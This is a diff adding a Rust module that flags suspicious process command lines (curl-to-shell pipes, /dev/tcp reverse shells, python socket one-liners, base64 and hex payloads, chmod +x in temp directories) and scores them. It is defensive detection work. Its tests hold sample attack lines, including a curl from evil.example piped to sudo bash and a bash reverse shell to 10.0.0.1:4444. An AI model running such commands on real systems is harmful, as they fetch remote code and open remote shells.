@@ -0,0 +1,257 @@
+use std::collections::{BTreeMap, HashMap};
+
+use regex::Regex;
+
+use crate::os_tooling::{
+    process::{OsProcessInformation, ProcessAttribute},
+    MetadataTags,
+};
+
+// Evidence is a slice of someone's command line, keep the tags readable
+const MAX_EVIDENCE_LEN: usize = 120;
+
+// Bump whenever HEURISTICS change so stored scores can be told apart
+pub const COMMAND_LINE_HEURISTICS_VERSION: &str = "1";
+
+struct Heuristic {
+    tag: MetadataTags,
+    description: &'static str,
+    // Heuristic threat score, matches add up to at most 100
+    weight: u8,
+    pattern: &'static str,
+    // Extra check on the match for what the regex can't express cheaply
+    confirm: fn(&str) -> bool,
+}
+
+static HEURISTICS: [Heuristic; 6] = [
+    Heuristic {
+        tag: MetadataTags::DownloadPipedToShell,
+        description: "download piped into a shell",
+        weight: 80,
+        pattern: r"\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b|\b(?:ba|da|z|k)?sh\s+<\(\s*(?:curl|wget)\b",
+        confirm: |_| true,
+    },
+    Heuristic {
+        tag: MetadataTags::EncodedPayload,
+        description: "long base64 blob",
+        weight: 40,
+        pattern: r"[A-Za-z0-9+/]{64,}={0,2}",
+        confirm: is_base64_blob,
+    },
+    Heuristic {
+        tag: MetadataTags::DevTcpRedirect,
+        description: "/dev/tcp reverse shell",
+        weight: 90,
+        pattern: r"/dev/(?:tcp|udp)/[^\s/]+/\d+",
+        confirm: |_| true,
+    },
+    Heuristic {
+        tag: MetadataTags::InlineSocketScript,
+        description: "python -c socket one-liner",
+        weight: 70,
+        pattern: r"\bpython[0-9.]*\s+-c\s+.*\bsocket\b.*",
+        confirm: |_| true,
+    },
+    Heuristic {
+        tag: MetadataTags::TmpExecutable,
+        description: "chmod +x in a temp directory",
+        weight: 50,
+        pattern: r"\bchmod\s+(?:-\S+\s+)*(\S+)\s+(?:[^\s;&|]+\s+)*?(?:/tmp|/var/tmp|/dev/shm)/\S*",
+        confirm: is_executable_chmod,
+    },
+    Heuristic {
+        tag: MetadataTags::HexObfuscation,
+        description: "hex escaped payload",
+        weight: 40,
+        pattern: r"(?:\\x[0-9a-fA-F]{2}){8,}|\bxxd\s+(?:-\S+\s+)*-r\b",
+        confirm: |_| true,
+    },
+];
+
+// Hashes and ids are long alphanumeric runs too, encoded data mixes cases and digits
+fn is_base64_blob(candidate: &str) -> bool {
+    let is_hex = candidate.chars().all(|c| c.is_ascii_hexdigit());
+    !is_hex
+        && !looks_like_path(candidate)
+        && candidate.chars().any(|c| c.is_ascii_lowercase())
+        && candidate.chars().any(|c| c.is_ascii_uppercase())
+        && candidate.chars().any(|c| c.is_ascii_digit())
+}
+
+// Paths and classpaths match the base64 alphabet too. A blob only has a slash every 64 characters
+// or so, a path has one every few
+fn looks_like_path(candidate: &str) -> bool {
+    let slashes = candidate.matches('/').count();
+    candidate.starts_with('/') || (slashes >= 2 && slashes * 16 >= candidate.len())
+}
+
+fn is_executable_chmod(evidence: &str) -> bool {
+    let Some(mode) = evidence.split_whitespace().skip(1).find(|arg| !arg.starts_with('-')) else {
+        return false;
+    };
+    if mode.chars().all(|c| c.is_ascii_digit()) {
+        // Any execute bit in the last three octal digits
+        return mode
+            .chars()
+            .rev()
+            .take(3)
+            .filter_map(|c| c.to_digit(8))
+            .any(|digit| digit & 1 == 1);
+    }
+    mode.contains('+') && mode.split('+').nth(1).is_some_and(|bits| bits.contains('x'))
+}
+
+fn truncate(evidence: &str) -> String {
+    match evidence.char_indices().nth(MAX_EVIDENCE_LEN) {
+        Some((end, _)) => format!("{}...", &evidence[..end]),
+        None => evidence.to_string(),
+    }
+}
+
+/**
+ Flags command lines that look like a malicious invocation, each heuristic gets its own tag holding
+ the part of the command that matched.
+
+ The command is matched as the space joined argv, so `sh -c "curl x | sh"` is seen the same as it
+ was typed. See `command_line_threat` for how the tags turn into a score.
+**/
+pub struct CommandLineAttribute {
+    patterns: Vec<Regex>,
+}
+
+impl CommandLineAttribute {
+    pub fn new() -> Self {
+        Self {
+            patterns: HEURISTICS
+                .iter()
+                .map(|heuristic| Regex::new(heuristic.pattern).expect("Heuristic patterns are valid"))
+                .collect(),
+        }
+    }
+}
+
+impl Default for CommandLineAttribute {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl ProcessAttribute for CommandLineAttribute {
+    fn tag(&self, process: &mut OsProcessInformation) {
+        if process.command.is_empty() {
+            return;
+        }
+        let command = process.command.join(" ");
+        for (heuristic, pattern) in HEURISTICS.iter().zip(&self.patterns) {
+            let evidence = pattern
+                .find_iter(&command)
+                .map(|m| m.as_str())
+                .find(|evidence| (heuristic.confirm)(evidence));
+            if let Some(evidence) = evidence {
+                process
+                    .attributes
+                    .insert(heuristic.tag.clone(), truncate(evidence));
+            }
+        }
+    }
+
+    fn untag(&self, process: &mut OsProcessInformation) {
+        for heuristic in &HEURISTICS {
+            process.attributes.remove(&heuristic.tag);
+        }
+    }
+}
+
+/// Heuristic score and reason from the tags `CommandLineAttribute` left, None when nothing matched
+pub fn command_line_threat(attributes: &HashMap<MetadataTags, String>) -> Option<(u8, String)> {
+    let matched: Vec<&Heuristic> = HEURISTICS
+        .iter()
+        .filter(|heuristic| attributes.contains_key(&heuristic.tag))
+        .collect();
+    if matched.is_empty() {
+        return None;
+    }
+    let score = matched
+        .iter()
+        .map(|heuristic| heuristic.weight as u32)
+        .sum::<u32>()
+        .min(100) as u8;
+    let reasons: Vec<&str> = matched.iter().map(|heuristic| heuristic.description).collect();
+    Some((score, format!("Command line has a {}", reasons.join(", "))))
+}
+
+/// What each matched heuristic found in the command, keyed by its description
+pub fn command_line_evidence(attributes: &HashMap<MetadataTags, String>) -> BTreeMap<String, String> {
+    HEURISTICS
+        .iter()
+        .filter_map(|heuristic| {
+            let evidence = attributes.get(&heuristic.tag)?;
+            Some((heuristic.description.to_string(), evidence.clone()))
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn tags(command: &[&str]) -> HashMap<MetadataTags, String> {
+        let mut process = OsProcessInformation::default();
+        process.command = command.iter().map(|arg| arg.to_string()).collect();
+        CommandLineAttribute::new().tag(&mut process);
+        process.attributes
+    }
+
+    #[test]
+    fn test_command_line_heuristics() {
+        let found = tags(&["sh", "-c", "curl -fsSL http://evil.example/x.sh | sudo bash"]);
+        assert_eq!(
+            found.get(&MetadataTags::DownloadPipedToShell).map(String::as_str),
+            Some("curl -fsSL http://evil.example/x.sh | sudo bash")
+        );
+
+        let found = tags(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
+        assert_eq!(
+            found.get(&MetadataTags::DevTcpRedirect).map(String::as_str),
+            Some("/dev/tcp/10.0.0.1/4444")
+        );
+
+        let found = tags(&[
+            "python3",
+            "-c",
+            "import socket,subprocess;s=socket.socket();s.connect(('10.0.0.1',4444))",
+        ]);
+        assert!(found.contains_key(&MetadataTags::InlineSocketScript));
+
+        assert!(tags(&["sh", "-c", "chmod +x /tmp/.x && /tmp/.x"])
+            .contains_key(&MetadataTags::TmpExecutable));
+        assert!(tags(&["chmod", "755", "/dev/shm/payload"]).contains_key(&MetadataTags::TmpExecutable));
+        assert!(tags(&["chmod", "644", "/tmp/notes"]).is_empty());
+
+        let blob = "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBsb25nIGJhc2U2NCBibG9iIHRoYXQgc2hvdWxkIGJlIGZsYWdnZWQ=";
+        assert!(tags(&["sh", "-c", &format!("echo {} | base64 -d | sh", blob)])
+            .contains_key(&MetadataTags::EncodedPayload));
+        // A sha256 isn't an encoded payload
+        let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+        assert!(tags(&["sha256sum", "-c", hash]).is_empty());
+        // Neither are long absolute or relative paths
+        let path = "/opt/vendor/Java17Runtime/lib/x86Linux/PluginBundles/v2Modules/CoreServices/Agent";
+        assert!(tags(&["java", "-cp", path, "Main"]).is_empty());
+        assert!(tags(&["ls", "src/main/Java/com/Example2/Service/Impl/Handlers/V3/Routing/Inbound/Adapters"]).is_empty());
+
+        assert!(tags(&["printf", "\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68\\x00"])
+            .contains_key(&MetadataTags::HexObfuscation));
+
+        assert!(tags(&["curl", "-o", "/tmp/file", "https://example.com"]).is_empty());
+
+        let found = tags(&["bash", "-c", "curl http://x | sh; bash -i >& /dev/tcp/1.2.3.4/80 0>&1"]);
+        let (score, reason) = command_line_threat(&found).unwrap();
+        assert_eq!(score, 100);
+        assert!(reason.contains("download piped into a shell"));
+        assert_eq!(command_line_threat(&HashMap::new()), None);
+        assert_eq!(
+            command_line_evidence(&found).get("/dev/tcp reverse shell").map(String::as_str),
+            Some("/dev/tcp/1.2.3.4/80")
+        );
+    }
+}